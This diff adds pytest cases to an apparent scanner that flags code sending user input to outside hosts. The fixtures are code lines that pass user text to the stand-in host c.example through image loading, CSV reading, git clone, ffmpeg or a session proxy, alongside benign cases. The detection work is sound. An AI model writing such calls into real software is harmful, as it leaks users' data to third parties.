@@ -155,3 +155,26 @@ def test_a_client_in_another_file_is_given_what_the_user_gives_the_model(host, h
 def test_a_name_that_the_user_gives_is_looked_up_for_him():
     looked = "import socket\nfrom urllib.parse import urlparse\n"
     assert worst(looked + model("pass", "socket.gethostbyname(urlparse(input_ids).hostname)")) < Severity.HIGH.rank
+
+
+@pytest.mark.parametrize(
+    ("imports", "used", "high"),
+    [
+        ("from diffusers.utils import load_image", "load_image('https://c.example/p.png?d=' + {})", True),
+        ("import pandas as pd", "pd.read_csv(f'https://c.example/x.csv?d={{{}}}')", True),
+        ("import subprocess", "subprocess.run(['git', 'clone', 'https://c.example/' + {}])", True),
+        ("import subprocess", "subprocess.run(['ffmpeg', '-i', 'https://c.example/?' + {}, 'x.wav'])", True),
+        ("import subprocess", "subprocess.run(['ffmpeg', '-i', {}, 'x.wav'])", False),
+        ("from diffusers.utils import load_image", "load_image({})", False),
+        ("from diffusers.utils import load_image", "load_image('https://huggingface.co/a/b/' + {})", False),
+        ("import logging", "logging.getLogger('x').info('https://c.example/issues?q=' + {})", False),
+    ],
+)
+def test_whatever_is_given_an_address_that_ends_in_the_users_words_asks_for_it(imports, used, high):
+    assert (worst(model("pass", used.format(SAID), imports)) >= Severity.HIGH.rank) is high
+
+
+@pytest.mark.parametrize(("proxy", "high"), [("http://p.c.example:8080", True), ("http://127.0.0.1:7890", False)])
+def test_the_proxy_of_a_session(proxy, high):
+    code = f"import requests\ns = requests.Session()\ns.proxies = {{'https': '{proxy}'}}\n"
+    assert (worst(code) >= Severity.HIGH.rank) is high
